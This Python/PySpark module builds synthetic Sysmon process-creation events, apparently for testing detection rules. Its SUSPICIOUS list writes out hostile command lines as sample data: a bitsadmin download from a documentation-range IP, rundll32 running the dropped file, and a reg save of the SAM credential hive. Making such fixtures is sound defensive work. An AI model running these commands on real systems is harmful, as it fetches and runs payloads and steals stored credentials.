"""Synthetic events of process creation, made in parallel from a seed and the event's number.

An event tells of a work station that starts a program. What happens is drawn by hashes of the seed and the number, so any
part of a data set can be made anywhere. Columns are those of flat events of process creation, all text.
"""

from __future__ import annotations

from dataclasses import dataclass

from pyspark.sql import Column, DataFrame, SparkSession
from pyspark.sql import functions as F

#: Of 100 events so many are harmless, and so many more only look suspicious; controlled hits are counted in runs of 10,000.
HARMLESS, LOOKALIKE, RUN = 70, 20, 10_000


@dataclass(frozen=True)
class Program:
    folder: str
    name: str
    about: str
    #: Arguments; # stands for a number that is drawn for each event.
    arguments: tuple[str, ...]
    parent: str


_SYSTEM, _TOOLS = "C:\\Windows\\System32\\", "D:\\Tools\\"
HARMLESS_PROGRAMS = (
    Program(_SYSTEM, "notepad.exe", "Text editor", ("notes-#.txt", "todo.txt"), "taskmgr.exe"),
    Program(_TOOLS, "packer.exe", "Archive tool", ("add -o box-#.zip in", "list box-#.zip"), "menu.exe"),
    Program(_TOOLS, "viewer.exe", "Picture viewer", ("scan-#.png",), "menu.exe"),
    Program(_SYSTEM, "robocopy.exe", "Copies folders", ("D:\\in E:\\out\\# /mir",), "nightly.exe"),
)
LOOKALIKES = (
    Program(_SYSTEM, "schtasks.exe", "Task planner", ("/query /tn job-#", "/query /fo list"), "menu.exe"),
    Program(_SYSTEM, "bitsadmin.exe", "Transfer tool", ("/list", "/info job-#"), "nightly.exe"),
)
SUSPICIOUS = (
    Program(_SYSTEM, "bitsadmin.exe", "Transfer tool", ("/transfer job-# http://198.51.100.7/#.dat D:\\drop.dat",), "viewer.exe"),
    Program(_SYSTEM, "rundll32.exe", "Runs library code", ("D:\\drop.dat,Start #", "shell.dat,#"), "packer.exe"),
    Program(_SYSTEM, "reg.exe", "Registry tool", ("save HKLM\\SAM D:\\#.hiv",), "rundll32.exe"),
)
ACCOUNTS = ("SHOP\\till", "SHOP\\office", "SHOP\\store", "SHOP\\night", "SHOP\\guest")
LEVELS = ("Low", "Medium", "System")


class _Dice:
    def __init__(self, seed: int):
        self.seed = seed

    def below(self, what: str, n: int) -> Column:
        return F.pmod(F.xxhash64("event_id", F.lit(what), F.lit(self.seed)), F.lit(n))

    def of(self, what: str, items: tuple[str, ...]) -> Column:
        return F.get(F.array(*map(F.lit, items)), self.below(what, len(items)).cast("int"))


def _program(dice: _Dice, programs: tuple[Program, ...]) -> Column:
    """A struct of one of the programs and its command line."""
    each = [F.struct(F.lit(p.folder + p.name).alias("image"), F.lit(p.name).alias("name"), F.lit(p.about).alias("about"), dice.of(p.name, p.arguments).alias("arguments"), F.lit(p.parent).alias("parent")) for p in programs]
    return F.get(F.array(*each), dice.below("program", len(programs)).cast("int"))


def events(spark: SparkSession, n: int, seed: int = 42) -> DataFrame:
    """event_id and 17 fields of text: 70 in 100 harmless, 20 that look suspicious, 10 suspicious."""
    dice = _Dice(seed)
    share = dice.below("kind", 100)
    chosen = F.when(share < HARMLESS, _program(dice, HARMLESS_PROGRAMS)).when(share < HARMLESS + LOOKALIKE, _program(dice, LOOKALIKES)).otherwise(_program(dice, SUSPICIOUS))
    rows = spark.range(n).withColumnRenamed("id", "event_id")
    # Through generators, so that the optimizer does not copy these expressions into every test of a field.
    rows = rows.select("event_id", F.explode(F.array(chosen)).alias("p"))
    line = F.concat_ws(" ", F.col("p.name"), F.replace(F.col("p.arguments"), F.lit("#"), dice.below("number", 1000).cast("string")))
    digest = F.sha2(F.concat_ws(":", F.lit(str(seed)), "p.image"), 256)
    fields = {
        "category": F.lit("process_creation"), "product": F.lit("windows"), "EventID": F.lit("1"),
        "Image": F.col("p.image"), "OriginalFileName": F.col("p.name"), "Description": F.col("p.about"), "Company": F.lit("Corner Shop"), "CommandLine": line,
        "ParentImage": F.concat(F.lit(_TOOLS), F.col("p.parent")), "ParentCommandLine": F.concat_ws(" ", F.col("p.parent"), F.lit("--quiet")),
        "User": dice.of("account", ACCOUNTS), "IntegrityLevel": dice.of("level", LEVELS), "CurrentDirectory": F.lit("D:\\work\\"),
        "ProcessId": (4 * dice.below("process", 8191) + 4).cast("string"), "ParentProcessId": (4 * dice.below("parent", 2047) + 4).cast("string"),
        "LogonId": F.concat(F.lit("0x"), F.lower(F.hex(dice.below("logon", 1 << 20)))), "Hashes": F.concat(F.lit("SHA256="), digest),
    }
    return rows.select("event_id", F.explode(F.array(F.struct(*(c.alias(name) for name, c in fields.items())))).alias("event")).select("event_id", "event.*")


def is_hit(number: Column, per_run: int) -> Column:
    return number % RUN < per_run


def expected_hits(n: int, per_run: int) -> int:
    whole, rest = divmod(n, RUN)
    return whole * per_run + min(rest, per_run)


def controlled(spark: SparkSession, n: int, per_run: int, seed: int = 42) -> DataFrame:
    """Events with the field A4Hit, which is 1 for a known number of them."""
    return events(spark, n, seed).withColumn("A4Hit", F.when(is_hit(F.col("event_id"), per_run), "1").otherwise("0"))


def as_windows_records(df: DataFrame) -> DataFrame:
    """event_id and value: events as the flat JSON records into which logs of Windows are turned, with numbers where those have them."""
    numbers = {"EventID", "ProcessId", "ParentProcessId"}
    own = [F.col(c).cast("long").alias(c) if c in numbers else F.col(c) for c in df.columns if c not in ("event_id", "category", "product")]
    record = F.struct(F.lit("Microsoft-Windows-Sysmon/Operational").alias("Channel"), F.concat(F.lit("station-"), F.col("event_id") % 16).alias("Computer"), F.col("event_id").alias("EventRecordID"), *own)
    return df.select("event_id", F.to_json(record).alias("value"))


def write_json(df: DataFrame, path: str, twin: str | None = None) -> None:
    """JSON lines of flat events; at twin, if named, the same events as records of the Windows log."""
    df.drop("event_id").write.mode("overwrite").json(path)
    if twin:
        as_windows_records(df).select("value").write.mode("overwrite").text(twin)
